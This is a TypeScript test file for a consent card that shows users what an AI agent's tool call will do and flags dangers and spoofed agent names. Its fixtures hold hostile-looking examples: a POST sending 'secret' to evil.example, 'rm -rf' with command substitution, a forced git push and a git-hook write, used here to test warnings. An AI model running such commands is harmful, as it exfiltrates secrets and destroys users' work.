// @vitest-environment jsdom
import { screen } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import type { ConsentPreview, DiffLine } from "../../app/contract/consent-preview.ts";
import type { JsonObject } from "../../app/contract/json.ts";
import { SENSITIVITIES } from "../../app/contract/scopes.ts";
import { createI18n, LOCALES, type LocaleName } from "../../i18n/index.ts";
import {
  arm,
  card,
  cardOf,
  drawCard,
  drawsCards,
  HOME,
  heading,
  highCard,
  press,
  t,
} from "./testing/drawn-card.tsx";

drawsCards();

const added = (count: number): readonly DiffLine[] =>
  Array.from({ length: count }, (_, at) => ({ kind: "added", text: `line ${at}` }));
const change = (lines: number): ConsentPreview => ({
  kind: "text_change",
  change: "create",
  size_before: null,
  size_after: 800,
  executable: false,
  hunks: [{ old_start: 1, new_start: 1, lines: added(lines) }],
});
const entry = { kind: "entry", size_bytes: 12, entries: null, overwrites: false } as const;

describe("what each kind of call shows", () => {
  const CALLS: readonly (readonly [string, JsonObject, ConsentPreview | null, string, string])[] = [
    ["read_file", { path: `${HOME}/notes.md` }, null, "read", "proj/notes.md"],
    ["list_directory", { path: HOME }, null, "list", "proj"],
    [
      "write_file",
      { path: `${HOME}/a.md`, content: "x" },
      change(82),
      "create",
      "proj/a.md? +82 −0",
    ],
    [
      "delete_file",
      { path: `${HOME}/old.md` },
      { ...entry, entry: "file" },
      "delete",
      "proj/old.md",
    ],
    [
      "move_file",
      { from: `${HOME}/a.md`, to: `${HOME}/b.md` },
      { ...entry, entry: "file" },
      "move",
      "proj/b.md",
    ],
    [
      "run_command",
      { argv: ["git", "push"], directory: HOME },
      { kind: "command", program: "/usr/bin/git", sandbox: null, network: true },
      "run",
      "proj",
    ],
    ["fetch_url", { url: "https://a.test/x" }, null, "fetch", "a.test/x"],
    [
      "fetch_url",
      { url: "https://evil.example/", method: "POST", body: "secret" },
      null,
      "send",
      "evil.example",
    ],
    ["read_clipboard", {}, null, "read_clipboard", t("target.read_clipboard")],
    ["write_clipboard", { text: "copied" }, null, "copy_text", t("consent.question.copy_text")],
    ["send_notification", { title: "Hello" }, null, "notify", t("consent.question.notify")],
    ["get_location", { accuracy: "fine" }, null, "locate_exactly", t("target.locate_exactly")],
    ["somebody:else", { any: "thing" }, null, "other", "somebody:else"],
  ];

  test.each(CALLS)("%s %j", (tool_name, args, preview, kind, says) => {
    drawCard(cardOf({ tool_name, arguments: args, preview }));
    expect(screen.getByTestId("consent-target").dataset.kind).toBe(kind);
    expect(heading().textContent).toContain(says);
    expect(heading().getAttribute("aria-label")).toContain("Notes");
    const isDrawn = preview !== null && preview.kind !== "command";
    expect(screen.queryAllByTestId("consent-preview")).toHaveLength(isDrawn ? 1 : 0);
  });

  test("a special path is marked, and stands whole among the details", () => {
    const path = `${HOME}/.git/hooks/pre-commit`;
    drawCard(cardOf({ tool_name: "write_file", arguments: { path, content: "x" } }));
    const target = screen.getByTestId("consent-target");
    expect(target.querySelector('[data-mark="git_hook"]')?.textContent).toBe(
      t("target.mark.git_hook"),
    );
    expect(details().querySelector(".target-path")?.textContent).toBe(path);
  });

  test("an ordinary path has no mark", () => {
    drawCard(cardOf());
    expect(screen.getByTestId("consent-target").querySelectorAll("[data-mark]")).toHaveLength(0);
  });

  test.each(SENSITIVITIES)(
    "%s is one of the quiet line's words; only high is a sign above",
    (sensitivity) => {
      drawCard(cardOf({ sensitivity }));
      expect(screen.getByTestId("consent-facts").textContent).toBe(
        [
          t("tools.read_file.label"),
          t("scopes.filesystem:read.label"),
          t(`sensitivity.${sensitivity}`),
        ].join(" · "),
      );
      const high = card().querySelector(".level-high");
      expect(high === null).toBe(sensitivity !== "high");
    },
  );

  test("a command in the folder that its first line names is asked about without it", () => {
    const run = {
      tool_name: "run_command",
      arguments: { argv: ["git", "status"], directory: HOME },
    };
    const { redraw } = drawCard(cardOf({ ...run, project_folder: HOME }));
    const question = () => screen.getByTestId("consent-target").textContent;
    expect(question()).toBe(t("consent.question.run_here"));
    redraw(cardOf({ ...run, project_folder: `${HOME}/below` }));
    expect(question()).toContain("proj");
  });

  test("its place is told only where others wait", () => {
    const { redraw } = drawCard(cardOf(), { position: 2, total: 3 });
    const place = t("consent.position", { position: 2, total: 3 });
    expect(card().textContent).toContain(place);
    redraw(cardOf(), { position: 1, total: 1 });
    expect(card().querySelector(".position")).toBeNull();
  });
});

const block = () => screen.queryByTestId("consent-block")?.textContent;

describe("the block", () => {
  test.each([
    [
      "is typed as one would",
      { argv: ["git", "commit", "-m", "a b", "it's"] },
      `git commit -m 'a b' "it's"`,
    ],
    [
      "stands as the agent wrote it",
      { line: "git status && npm test", shell: "sh" },
      "git status && npm test",
    ],
    [
      "keeps line breaks between quotes",
      { argv: ["sh", "-c", "set -e\nmake"] },
      "sh -c 'set -e¶\nmake'",
    ],
  ])("a command %s", (_, args, shown) => {
    drawCard(cardOf({ tool_name: "run_command", arguments: { ...args, directory: HOME } }));
    expect(block()).toBe(shown);
    expect(screen.queryByTestId("consent-arguments")).toBeNull();
  });

  test("a command that no line can show has its arguments one by one", () => {
    const argv = ["echo", 'it\'s "$HOME"'];
    drawCard(cardOf({ tool_name: "run_command", arguments: { argv, directory: HOME } }));
    expect(block()).toBeUndefined();
    expect(shown()).toContain(argv[1]);
  });

  test("dangerous words of a command are marked, with the reason beside them", () => {
    const line = "git add -A && git push --force origin main";
    drawCard(
      cardOf({ tool_name: "run_command", arguments: { line, shell: "sh", directory: HOME } }),
    );
    const marked = [...card().querySelectorAll(".block mark")].map((each) => each.textContent);
    expect(marked).toEqual(["git push --force"]);
    expect(block()).toBe(line);
    expect(screen.getByTestId("consent-dangers").textContent).toBe(t("consent.danger.loses_work"));
  });

  test("what keeps a command line from being read is marked and named", () => {
    const line = "rm -rf a && echo $(id)";
    const unread = { reason: "substitution", text: "$(…)", start: 17, end: 22 } as const;
    drawCard(
      cardOf({
        tool_name: "run_command",
        arguments: { line, shell: "sh", directory: HOME },
        raised: ["unreadable", "dangerous", "outside_project"],
        line: { unread, commands: [], directory: HOME, programs: ["rm", "echo", "id", "rm"] },
      }),
    );
    const commands = "rm, echo, and id";
    expect(screen.getByTestId("consent-programs").textContent).toBe(
      t("consent.line_may_run", { commands }),
    );
    const marked = [...card().querySelectorAll(".block mark")].map((each) => each.textContent);
    expect(marked).toEqual(["rm -rf", "$(id)"]);
    expect(block()).toBe(line);
    const reasons = [...screen.getByTestId("consent-raised").children];
    expect(reasons.map(({ textContent }) => textContent)).toEqual([
      t("consent.unread.substitution", { text: "$(…)" }),
      t("consent.raised.outside_project"),
    ]);
  });

  test("what is sent stands as it goes over the line, whole", () => {
    const url = "https://a.test/x?y=1";
    const args = { url, method: "POST", headers: { authorization: "Bearer k" }, body: "{}" };
    drawCard(cardOf({ tool_name: "fetch_url", arguments: args }));
    expect(block()).toBe(`POST ${url}¶\nauthorization: Bearer k¶\n¶\n{}`);
    expect(screen.queryByTestId("consent-arguments")).toBeNull();
  });

  test("what the agent says of its own call is quoted; what else it gave stays in sight", () => {
    const also = { description: "Run the tests", run_in_background: true };
    const args = { line: "npm test", shell: "sh", directory: HOME, also };
    drawCard(cardOf({ tool_name: "run_command", arguments: args }));
    expect(screen.getByTestId("consent-said").textContent).toBe("Run the tests");
    expect(shown()).toMatch(/run_in_background.*true/s);
    expect(shown()).not.toContain("Run the tests");
  });
});

const shown = () => screen.getByTestId("consent-arguments").textContent ?? "";
const details = () => screen.getByTestId("consent-details");

describe("the arguments", () => {
  test("are all among the details, structured", () => {
    drawCard(cardOf());
    expect(screen.queryByTestId("consent-arguments")).toBeNull();
    expect(screen.getByTestId("consent-all-arguments").textContent).toContain(`${HOME}/notes.md`);
    expect(details().contains(screen.getByTestId("consent-all-arguments"))).toBe(true);
  });

  test("stay in sight where nothing else says them", () => {
    drawCard(cardOf({ arguments: { path: `${HOME}/notes.md`, max_bytes: 12_345 } }));
    expect(shown()).toContain("12345");
  });

  test("of a tool that nobody here knows are all in sight", () => {
    drawCard(cardOf({ tool_name: "somebody:else", arguments: { first: "one", second: "two" } }));
    expect(shown()).toMatch(/first.*one.*second.*two/);
  });

  test("come before a long difference, so that none hides below it", () => {
    const args = { path: `${HOME}/a.md`, content: "x", unknown: "hidden" };
    drawCard(cardOf({ tool_name: "write_file", arguments: args, preview: change(200) }));
    const [rows, preview] = ["consent-arguments", "consent-preview"].map((id) =>
      screen.getByTestId(id),
    );
    expect(rows?.compareDocumentPosition(preview as Node)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
  });
});

describe("who asks", () => {
  test("by the person's own name, and what the agent calls itself beside it", () => {
    drawCard(cardOf({ petname: "Archivist" }));
    expect(heading().getAttribute("aria-label")).toContain("Archivist");
    expect(details().textContent).toContain(`${t("agents.calls_itself")}Notes`);
  });

  test.each([
    ["turns the line round", "Sys\u202etem"],
    ["ends the line", "System\nConsentry asks:"],
    ["is partly invisible", "Sys\u200btem"],
  ])("a name that %s is drawn as what it is", (_does, agent_name) => {
    drawCard(cardOf({ agent_name }));
    const hidden = [...agent_name].find((each) => /[\u202e\n\u200b]/.test(each)) ?? "";
    expect(card().querySelector(".identity-name")?.textContent).not.toContain(hidden);
    expect(heading().getAttribute("aria-label")).not.toContain(hidden);
  });

  test("a name that holds markup or a placeholder of ours stays text", () => {
    drawCard(cardOf({ agent_name: "<b>x</b> {{tool}} $t(nav.settings)" }));
    expect(card().querySelector(".identity-name")?.textContent).toBe(
      "<b>x</b> {{tool}} $t(nav.settings)",
    );
    expect(heading().getAttribute("aria-label")).toContain("<b>x</b> {{tool}} $t(nav.settings)");
  });

  const KNOWN = { kind: "known", fingerprint: "5b1e 07c2 9d44 a0f3 8e61" } as const;
  test.each([
    [KNOWN, {}, 1],
    [KNOWN, { name_is_shared: true }, 2],
    [KNOWN, { name_mark: "looks_latin" }, 2],
    [{ kind: "none" }, {}, 0],
    [{ kind: "unknown" }, {}, 2],
    [{ kind: "in_doubt" }, {}, 2],
  ] as const)(
    "%j %j: its key is among the details, beside the name only where that could deceive",
    (key_mark, differs, count) => {
      drawCard(cardOf({ key_mark, ...differs }));
      const keys = screen.queryAllByTestId("fingerprint");
      expect(keys).toHaveLength(count);
      if (key_mark.kind !== "none") {
        const says =
          key_mark.kind === "known" ? key_mark.fingerprint : t(`agents.key_is.${key_mark.kind}`);
        for (const each of keys) expect(each.textContent).toContain(says);
      }
      expect(details().querySelectorAll('[data-testid="fingerprint"]')).toHaveLength(
        Math.min(count, 1),
      );
    },
  );

  test("letters of two alphabets in a path are pointed out", () => {
    drawCard(cardOf({ arguments: { path: `${HOME}/\u0440assword.txt` } }));
    expect(screen.getByTestId("consent-body").textContent).toContain(
      t("consent.mixed_script", { word: "\u0440assword" }),
    );
  });
});

test("a folder that another answer opened meanwhile is neither asked for nor given again", async () => {
  const root_wanted = { suggested_path: HOME, access: "read", file: null } as const;
  const { actions, redraw } = drawCard(cardOf({ root_wanted }));
  expect(screen.getByTestId("consent-root-change")).toBeTruthy();
  redraw(cardOf());
  expect(screen.queryByTestId("consent-root-change")).toBeNull();
  await arm();
  await press("consent-allow-once");
  expect(actions.answer.mock.calls).toEqual([["request-1", "allow_once", undefined]]);
});

test.each(Object.keys(LOCALES) as LocaleName[])("what the tool does is said in %s", (language) => {
  const { t: said } = createI18n(language);
  const { redraw } = drawCard(cardOf({ tool_name: "read_clipboard", arguments: {} }), { language });
  expect(heading().textContent).toContain(said("target.read_clipboard"));
  const own = { description_i18n_key: "x", description_fallback: "Syncs everything." };
  redraw(cardOf({ request_id: "2", tool_name: "sync", ...own }));
  expect(details().textContent).toContain("Syncs everything.");
  redraw(cardOf({ request_id: "3" }));
  expect(details().textContent).toContain(said("tools.read_file.description"));
});

test.each(Object.keys(LOCALES) as LocaleName[])("the whole card speaks %s", (language) => {
  const { t: said } = createI18n(language);
  drawCard(highCard(), { language });
  expect(card().querySelector(".level-high")?.textContent).toContain(said("sensitivity.high"));
  expect(screen.getByTestId("consent-countdown").textContent).toContain(
    said("consent.not_started"),
  );
  expect(screen.getByTestId("consent-facts").textContent).toContain(
    said("scopes.filesystem:read.label"),
  );
});
